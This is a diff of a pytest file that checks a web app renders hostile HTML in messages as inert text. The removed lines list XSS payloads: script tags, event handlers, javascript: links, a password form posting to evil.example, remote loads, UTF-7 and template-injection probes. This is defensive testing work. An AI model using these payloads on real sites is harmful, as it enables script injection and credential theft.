@@ -1,41 +1,20 @@
 """Markup that wants to run, load or lead elsewhere: it is text on the page, whatever it tries."""
 
-from __future__ import annotations
-
 import re
 import uuid
+from pathlib import Path
 
 import pytest
+import yaml
 from selectolax.lexbor import LexborHTMLParser
 
 from tests.hostile.bombs import mixed, plain
 from tests.hostile.conftest import Besieged
 
 SAID = "The printer prints nothing since 9:00."
+MARKUP: dict[str, str] = yaml.safe_load(Path(__file__).with_name("markup.yaml").read_text(encoding="utf-8"))
+"""``SAID`` stands for the sentence."""
 
-MARKUP = {
-    "a script": f"<p>{SAID}</p><script>alert('RAN')</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "a style": f"<style>p{{background:url(https://evil.example/RAN)}}</style><p style='color:red'>{SAID}</p>",
-    "handlers": f"<p onclick=RAN() onmouseover='RAN()'>{SAID}</p><body onload=RAN()><svg/onload=RAN()>",
-    "remote pictures": f"<p>{SAID}</p><img src='https://evil.example/RAN.png'><img srcset='//evil.example/RAN 2x'>",
-    "links that run": f"<p>{SAID} <a href='javascript:RAN()'>here</a> <a href='&#106;avascript:RAN()'>there</a></p>",
-    "links of data": f"<p>{SAID} <a href='data:text/html,<script>RAN()</script>"
-    f"'>here</a><a href=vbscript:RAN>x</a></p>",
-    "frames": f"<p>{SAID}</p><iframe src='https://evil.example/RAN'></iframe><object data=RAN></object><embed src=RAN>",
-    "a form": f"<p>{SAID}</p><form action=https://evil.example/RAN><input name=p type=password>"
-    f"<button>OK</button></form>",
-    "a base and a refresh": f"<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//RAN'>"
-    f"<p>{SAID}</p>",
-    "markup that breaks out": f"</div></li></main></body></html><script>RAN()</script><p>{SAID}</p><!--",
-    "markup as words": f"<p>{SAID} &lt;script&gt;RAN()&lt;/script&gt; &lt;img src=x onerror=RAN()&gt;</p>",
-    "markup twice escaped": f"<p>{SAID} &amp;lt;script&amp;gt;RAN()&amp;lt;/script&amp;gt;</p>",
-    "templates": f"<p>{SAID} {{{{7*7}}}} {{% for x in range(9) %}} ${{7*7}} <%= 7*7 %></p>",
-    "namespaces": f"<math><mtext><table><mglyph><style><img src=x onerror=RAN()></style></table></math><p>{SAID}</p>",
-    "a template element": f"<template><script>RAN()</script></template><noscript>"
-    f"<img src=x onerror=RAN()></noscript>{SAID}",
-    "null bytes": f"<scr\x00ipt>RAN()</scr\x00ipt><p>{SAID}</p>",
-    "utf-7": f"+ADw-script+AD4-RAN()+ADw-/script+AD4- <p>{SAID}</p>",
-}
 OURS = re.compile(r"(?:/(?!/)|#|\?|$)")
 
 
@@ -58,7 +37,9 @@ def test_markup_is_words_on_every_page(besieged: Besieged) -> None:
     for case, markup in MARKUP.items():
         id = f"markup-{uuid.uuid4().hex[:8]}"
         charset = "utf-7" if case == "utf-7" else "utf-8"
-        message = besieged.take(id, plain(id, markup.encode(), f"Content-Type: text/html; charset={charset}"))
+        message = besieged.take(
+            id, plain(id, markup.replace("SAID", SAID).encode(), f"Content-Type: text/html; charset={charset}")
+        )
         assert SAID in message["text"], case
         for path in (f"/cases/{message['case']}", f"/messages/{message['id']}", "/"):
             answer = besieged.http.get(path)
